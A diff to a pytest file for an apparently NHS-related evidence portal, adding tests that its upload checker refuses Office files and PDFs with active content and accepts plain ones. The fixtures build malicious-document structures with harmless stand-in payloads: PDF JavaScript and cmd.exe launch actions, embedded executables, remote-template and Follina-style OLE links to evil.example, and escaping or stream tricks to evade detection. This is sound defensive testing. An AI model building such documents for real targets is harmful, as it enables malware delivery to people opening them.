@@ -9,8 +9,11 @@ from __future__ import annotations
 import datetime
 import hashlib
 import io
+import os
 import re
+import time
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -27,26 +30,81 @@ from portal.models import AuditEvent
 # ---- building files ---------------------------------------------------------------------------------
 
 
-def make_pdf(text: str = "Social work supervision audit 2026") -> bytes:
-    """A small, valid one-page PDF whose page shows ``text``."""
+def make_pdf(
+    text: str = "Social work supervision audit 2026",
+    *,
+    catalog: bytes = b"",
+    page: bytes = b"",
+    objects: tuple[bytes, ...] = (),
+    unlisted: tuple[bytes, ...] = (),
+) -> bytes:
+    """A small, valid one-page PDF whose page shows ``text``.
+
+    ``catalog`` and ``page`` are added to those dictionaries; ``objects`` become objects 6, 7, …;
+    ``unlisted`` objects follow them in the file but are left out of the cross-reference table.
+    """
     content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
     objects = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
-        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        b" /Resources << /Font << /F1 5 0 R >> >>" + page + b" >>",
         b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        *objects,
     ]
     out = b"%PDF-1.4\n"
     offsets = []
     for number, body in enumerate(objects, start=1):
         offsets.append(len(out))
         out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    for number, body in enumerate(unlisted, start=len(objects) + 1):
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
     xref = len(out)
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return out
+
+
+def make_pdf_with_object_stream(packed: bytes, *, catalog: bytes = b" /OpenAction 6 0 R") -> bytes:
+    """A PDF 1.5 whose object 6 (``packed``) is compressed inside an object stream, with an xref stream."""
+    content = b"BT /F1 12 Tf 72 720 Td (Board minutes) Tj ET"
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    }
+    header = b"6 0 "
+    packed_data = zlib.compress(header + packed)
+    objects[7] = (
+        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(header), len(packed_data))
+        + packed_data
+        + b"\nendstream"
+    )
+    out = b"%PDF-1.5\n"
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    offsets[8] = len(out)
+
+    def row(kind: int, field: int, index: int = 0) -> bytes:
+        return bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")
+
+    rows = [row(0, 0, 0xFFFF)]
+    rows += [row(2, 7, 0) if number == 6 else row(1, offsets[number]) for number in range(1, 9)]
+    xref_data = b"".join(rows)
+    out += (
+        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref_data)
+        + xref_data
+        + b"\nendstream\nendobj\n"
+    )
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
     return out
 
 
@@ -115,6 +173,64 @@ def make_docm() -> bytes:
         "word/document.xml",
         {"word/document.xml": document, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA macro"},
         extra_types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+    )
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+OLE_OBJECT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+OLE_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file, as Office embeds
+
+
+def relationships(*entries: str) -> str:
+    """A relationships part holding ``entries`` (see ``relationship``)."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(entries)
+        + "</Relationships>"
+    )
+
+
+def relationship(kind: str, target: str, *, external: bool = False, number: int = 9) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="rId{number}" Type="{REL}{kind}" Target="{target}"{mode}/>'
+
+
+def make_office(kind: str, parts: dict[str, str | bytes], *, extra_types: str = "", text: str = "Policy") -> bytes:
+    """A .docx, .xlsx or .pptx with some text and the extra ``parts`` (embeddings, relationships…)."""
+    if kind == "docx":
+        body = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"
+        main = f'<?xml version="1.0"?><w:document {W}>{body}</w:document>'
+        return make_ooxml(WORD_MAIN, "word/document.xml", {"word/document.xml": main, **parts}, extra_types)
+    if kind == "xlsx":
+        main = f'<?xml version="1.0"?><workbook><sheets><sheet name="{text}" sheetId="1"/></sheets></workbook>'
+        return make_ooxml(EXCEL_MAIN, "xl/workbook.xml", {"xl/workbook.xml": main, **parts}, extra_types)
+    main = f'<?xml version="1.0"?><p:presentation xmlns:p="p"><p:t>{text}</p:t></p:presentation>'
+    return make_ooxml(POWERPOINT_MAIN, "ppt/presentation.xml", {"ppt/presentation.xml": main, **parts}, extra_types)
+
+
+def with_ole_object(kind: str) -> bytes:
+    """An Office file with an embedded OLE object as Office writes it: the part, its content type, its relationship."""
+    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
+    main = {"docx": "document.xml", "xlsx": "workbook.xml", "pptx": "presentation.xml"}[kind]
+    return make_office(
+        kind,
+        {
+            f"{folder}/embeddings/oleObject1.bin": OLE_BYTES,
+            f"{folder}/_rels/{main}.rels": relationships(relationship("oleObject", "embeddings/oleObject1.bin")),
+        },
+        extra_types=f'<Default Extension="bin" ContentType="{OLE_OBJECT_TYPE}"/>',
+    )
+
+
+def with_template(target: str) -> bytes:
+    """A .docx whose settings attach the template at ``target``, as Word records it."""
+    return make_office(
+        "docx",
+        {
+            "word/settings.xml": f'<?xml version="1.0"?><w:settings {W}><w:attachedTemplate r:id="rId9"/></w:settings>',
+            "word/_rels/settings.xml.rels": relationships(relationship("attachedTemplate", target, external=True)),
+        },
     )
 
 
@@ -190,6 +306,14 @@ def upload(client, trust, name: str, content: bytes, *, query: str = "", **field
 
 def page_text(response) -> str:
     return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())
+
+
+def input_value(html: str, name: str) -> str | None:
+    """The value of the one <input> named ``name`` in the page, or None if it has no value."""
+    tags = re.findall(rf'<input\b[^>]*\bname="{re.escape(name)}"[^>]*>', html)
+    assert len(tags) == 1, f"expected one input named {name}, found {len(tags)}"
+    value = re.search(r'\bvalue="([^"]*)"', tags[0])
+    return value.group(1) if value else None
 
 
 def hidden_token(response) -> str:
@@ -288,6 +412,275 @@ MACROS = evidence.MESSAGES["macros"]
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
 HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
 
+ACTIVE_PDF = evidence.MESSAGES["active_content"]
+JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+
+# Office files that carry code in embedded objects, or fetch it from elsewhere when they open.
+EMBEDDED_CODE_FILES = [
+    ("OLE object in a .docx", "policy.docx", with_ole_object("docx"), MACROS),
+    ("OLE object in a .xlsx", "figures.xlsx", with_ole_object("xlsx"), MACROS),
+    ("OLE object in a .pptx", "board.pptx", with_ole_object("pptx"), MACROS),
+    (
+        "OLE object part alone, without its content type or relationship",
+        "policy.docx",
+        make_office("docx", {"word/embeddings/oleObject1.bin": OLE_BYTES}),
+        MACROS,
+    ),
+    (
+        "OLE object content type on a part in media/",
+        "policy.docx",
+        make_office(
+            "docx",
+            {"word/media/image1.png": OLE_BYTES},
+            extra_types=f'<Override PartName="/word/media/image1.png" ContentType="{OLE_OBJECT_TYPE}"/>',
+        ),
+        MACROS,
+    ),
+    (
+        "OLE object relationship to a part in media/",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/media/image1.png": make_image("PNG"),
+                "word/_rels/document.xml.rels": relationships(relationship("oleObject", "media/image1.png")),
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "packaged executable in a .pptx",
+        "board.pptx",
+        make_office("pptx", {"ppt/embeddings/setup.exe": b"MZ\x90\x00"}),
+        MACROS,
+    ),
+    (
+        "macro-enabled document embedded in a .docx",
+        "policy.docx",
+        make_office("docx", {"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": make_docm()}),
+        MACROS,
+    ),
+    (
+        "workbook with a VBA project embedded in a .docx under a .xlsx name",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_office(
+                    "xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}
+                )
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "OLE object embedded in a .docx under a .xlsx name",
+        "policy.docx",
+        make_office("docx", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": OLE_BYTES}),
+        MACROS,
+    ),
+    (
+        "workbook embedded in a workbook embedded in a .docx",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_office(
+                    "xlsx", {"xl/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Hidden")}
+                )
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "macro-enabled document in media/ that a relationship says is an embedded package",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/media/image1.docm": make_docm(),
+                "word/_rels/document.xml.rels": relationships(relationship("package", "media/image1.docm")),
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "chart data workbook with a VBA project outside embeddings/",
+        "board.pptx",
+        make_office(
+            "pptx",
+            {
+                "ppt/media/data.xlsx": make_office("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}),
+                "ppt/charts/_rels/chart1.xml.rels": relationships(relationship("package", "../media/data.xlsx")),
+            },
+        ),
+        MACROS,
+    ),
+    ("template attached from a web address", "policy.docx", with_template("https://evil.example/t.dotm"), MACROS),
+    ("template attached from a network share", "policy.docx", with_template(r"\\evil.example\share\t.dotm"), MACROS),
+    (
+        "template attached from a file URL on another host",
+        "policy.docx",
+        with_template("file://evil.example/share/t.dotm"),
+        MACROS,
+    ),
+    (
+        "linked OLE object fetched from a web address (Follina)",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    relationship(
+                        "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x", external=True
+                    )
+                )
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "linked OLE object in a worksheet's relationships",
+        "figures.xlsx",
+        make_office(
+            "xlsx",
+            {
+                "xl/worksheets/_rels/sheet1.xml.rels": relationships(
+                    relationship("oleObject", "https://evil.example/x", external=True)
+                )
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "relationship type written with a character reference",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    relationship("attachedTemplat&#101;", "https://evil.example/t.dotm", external=True)
+                )
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "relationships part in UTF-16",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    relationship("attachedTemplate", "https://evil.example/t.dotm", external=True)
+                )
+                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+                .encode("utf-16")
+            },
+        ),
+        MACROS,
+    ),
+    (
+        "OpenDocument with an embedded OLE object",
+        "policy.odt",
+        make_opendocument(
+            extra={
+                "Object 1": OLE_BYTES,
+                "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest xmlns:manifest="m">'
+                '<manifest:file-entry manifest:full-path="Object 1"'
+                ' manifest:media-type="application/vnd.sun.star.oleobject"/>'
+                "</manifest:manifest>",
+            }
+        ),
+        MACROS,
+    ),
+]
+
+# PDFs with scripts, launch actions, attachments, rich media or XFA forms.
+ACTIVE_PDF_FILES = [
+    (
+        "PDF with JavaScript run when it opens",
+        "minutes.pdf",
+        make_pdf(catalog=b" /OpenAction " + JS_ACTION),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with document JavaScript in its names tree",
+        "minutes.pdf",
+        make_pdf(catalog=b" /Names << /JavaScript 6 0 R >>", objects=(b"<< /Names [(init) 7 0 R] >>", JS_ACTION)),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF page with a JavaScript action when it opens",
+        "minutes.pdf",
+        make_pdf(page=b" /AA << /O " + JS_ACTION + b" >>"),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF link annotation that launches a program",
+        "minutes.pdf",
+        make_pdf(
+            page=b" /Annots [6 0 R]",
+            objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) >> >>",),
+        ),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with an embedded file",
+        "minutes.pdf",
+        make_pdf(
+            catalog=b" /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
+            objects=(
+                b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
+                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+            ),
+        ),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with a file attachment annotation",
+        "minutes.pdf",
+        make_pdf(
+            page=b" /Annots [6 0 R]",
+            objects=(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (setup.exe) >>",),
+        ),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with a rich media annotation",
+        "minutes.pdf",
+        make_pdf(page=b" /Annots [6 0 R]", objects=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",)),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with an XFA form",
+        "minutes.pdf",
+        make_pdf(
+            catalog=b" /AcroForm << /Fields [] /XFA 6 0 R >>",
+            objects=(b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",),
+        ),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with JavaScript inside a compressed object stream",
+        "minutes.pdf",
+        make_pdf_with_object_stream(JS_ACTION),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with names written with #xx escapes",
+        "minutes.pdf",
+        make_pdf(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+        ACTIVE_PDF,
+    ),
+    (
+        "PDF with a JavaScript action left out of its cross-reference table",
+        "minutes.pdf",
+        make_pdf(catalog=b" /OpenAction 6 0 R", unlisted=(JS_ACTION,)),
+        ACTIVE_PDF,
+    ),
+]
+
 HOSTILE_FILES = [
     (
         "executable renamed .pdf",
@@ -341,6 +734,8 @@ HOSTILE_FILES = [
     ("PDF header with nothing behind it", "minutes.pdf", b"%PDF-1.7\n garbage", evidence.MESSAGES["damaged"]),
     ("PNG named .pdf", "minutes.pdf", make_image("PNG"), None),
     ("empty file", "minutes.pdf", b"", "The selected file is empty"),
+    *EMBEDDED_CODE_FILES,
+    *ACTIVE_PDF_FILES,
 ]
 
 
@@ -368,7 +763,101 @@ def test_hostile_or_unacceptable_file_is_refused_and_nothing_is_stored(
     assert 'value="Supervision audit 2026"' in html
     assert "Quarterly audit of professional supervision." in html
     assert 'value="Principal social worker"' in html
-    assert 'name="evidence_date_day" value="31"' in html or 'value="31"' in html
+    assert [input_value(html, f"evidence_date_{part}") for part in ("day", "month", "year")] == ["31", "3", "2026"]
+
+
+GOOD_OFFICE_FILES = [
+    (
+        "pictures in media/ and embeddings/",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/media/image1.png": make_image("PNG"),
+                "word/embeddings/image2.emf": b"\x01\x00\x00\x00",
+                "word/_rels/document.xml.rels": relationships(relationship("image", "media/image1.png")),
+            },
+        ),
+    ),
+    (
+        "a chart's data workbook in embeddings/",
+        "board.pptx",
+        make_office(
+            "pptx",
+            {
+                "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Vacancies", "12"),
+                "ppt/charts/_rels/chart1.xml.rels": relationships(
+                    relationship("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
+                ),
+            },
+        ),
+    ),
+    (
+        "the template it was made from, on the author's computer",
+        "policy.docx",
+        with_template(r"file:///C:\Users\lead\AppData\Roaming\Microsoft\Templates\Trust letter.dotx"),
+    ),
+    (
+        "a link to a web page",
+        "policy.docx",
+        make_office(
+            "docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    relationship("hyperlink", "https://www.example.nhs.uk/policy", external=True)
+                )
+            },
+        ),
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "content"), [case[1:] for case in GOOD_OFFICE_FILES], ids=[case[0] for case in GOOD_OFFICE_FILES]
+)
+def test_office_files_with_pictures_charts_templates_and_links_are_accepted(name, content):
+    """Pictures, a chart's plain workbook, a local template and web links are not code: the file is accepted."""
+    checked = evidence.check_upload(SimpleUploadedFile(name, content))
+
+    assert checked.file_type.code == name.rsplit(".", 1)[1]
+
+
+def test_nhs_number_in_an_embedded_workbook_is_flagged():
+    """The text of an Office document embedded in another (a chart's data) is searched for NHS numbers too."""
+    content = make_office(
+        "docx", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Ref", VALID_NHS_NUMBER)}
+    )
+
+    assert evidence.check_upload(SimpleUploadedFile("report.docx", content)).nhs_numbers == (VALID_NHS_NUMBER,)
+
+
+GOOD_PDFS = [
+    (
+        "a link to a web page",
+        make_pdf(
+            page=b" /Annots [6 0 R]",
+            objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nhs.uk/) >> >>",),
+        ),
+    ),
+    ("a form to fill in", make_pdf(catalog=b" /AcroForm << /Fields [6 0 R] >>", objects=(b"<< /FT /Tx /T (Name) >>",))),
+    ("the words of active content on its page", make_pdf("Do not use /JavaScript, /Launch or /EmbeddedFiles")),
+    ("objects in a compressed object stream", make_pdf_with_object_stream(b"<< /Title (Minutes) >>", catalog=b"")),
+]
+
+
+@pytest.mark.parametrize("content", [case[1] for case in GOOD_PDFS], ids=[case[0] for case in GOOD_PDFS])
+def test_plain_pdf_with_links_forms_or_object_streams_is_accepted(content):
+    """Links, form fields, object streams and page text that names active content do not make a PDF active."""
+    assert evidence.check_upload(SimpleUploadedFile("minutes.pdf", content)).file_type.code == "pdf"
+
+
+@pytest.mark.parametrize(("limit", "value"), [("PDF_MAX_OBJECTS", 3), ("PDF_CHECK_SECONDS", -1)])
+def test_pdf_too_large_to_check_in_time_is_refused(monkeypatch, limit, value):
+    """A PDF with too many objects to check, or that takes too long to check, is refused rather than let through."""
+    monkeypatch.setattr(evidence, limit, value)
+
+    with pytest.raises(ValidationError, match="The selected file is too complex to check"):
+        evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
 
 
 def test_file_over_the_size_limit_is_refused(client_for, lead, trust, storage_root, settings):
@@ -633,6 +1122,63 @@ def test_expired_held_files_are_purged(lead, trust, storage_root, monkeypatch):
 
     assert evidence.purge_expired_holds() == 1
     assert stored_files(storage_root) == []
+
+
+def hold_expired_file(trust, user, storage_root) -> Path:
+    """A file held for ``user`` whose hold time has passed."""
+    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
+    evidence.hold_upload(checked, user=user, trust=trust)
+    [held] = stored_files(storage_root / "held")
+    expired = time.time() - evidence.HOLD_MAX_AGE - 60
+    os.utime(held, (expired, expired))
+    return held
+
+
+def test_expired_held_file_is_removed_by_the_next_upload_that_holds_nothing(client_for, lead, trust, storage_root):
+    """An upload that is stored straight away, holding nothing, still removes a held file past its time."""
+    held = hold_expired_file(trust, lead, storage_root)
+
+    response = upload(client_for(lead), trust, "figures.csv", CSV)
+
+    assert response.status_code == 302
+    assert not held.exists()
+    assert [path.read_bytes() for path in stored_files(storage_root)] == [CSV]
+
+
+@pytest.mark.parametrize("page", ["evidence-upload", "evidence-add-link", "evidence-new-version"])
+def test_expired_held_file_is_removed_when_any_add_evidence_page_is_opened(
+    client_for, contributor, lead, trust, storage_root, page
+):
+    """Opening the upload, add-link or new-version page removes held files past their time, whoever held them."""
+    item = add_document(trust, lead)
+    held = hold_expired_file(trust, lead, storage_root)
+    args = [trust.ods_code, item.pk] if page == "evidence-new-version" else [trust.ods_code]
+
+    response = client_for(contributor).get(reverse(page, args=args))
+
+    assert response.status_code == 200
+    assert not held.exists()
+    assert len(stored_files(storage_root)) == 1  # the library's own document stays
+
+
+def test_held_file_within_its_time_is_kept_by_the_purge(lead, trust, storage_root):
+    """The purge removes only expired held files."""
+    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
+    evidence.hold_upload(checked, user=lead, trust=trust)
+
+    assert evidence.purge_expired_holds() == 0
+    assert len(stored_files(storage_root / "held")) == 1
+
+
+def test_upload_page_works_when_the_purge_fails(client_for, lead, trust, monkeypatch):
+    """A storage error while purging held files is logged, never shown to the person uploading."""
+
+    def broken_purge():
+        raise OSError("storage unavailable")
+
+    monkeypatch.setattr(evidence, "purge_expired_holds", broken_purge)
+
+    assert upload(client_for(lead), trust, "figures.csv", CSV).status_code == 302
 
 
 # ---- other fields keep the file ---------------------------------------------------------------------
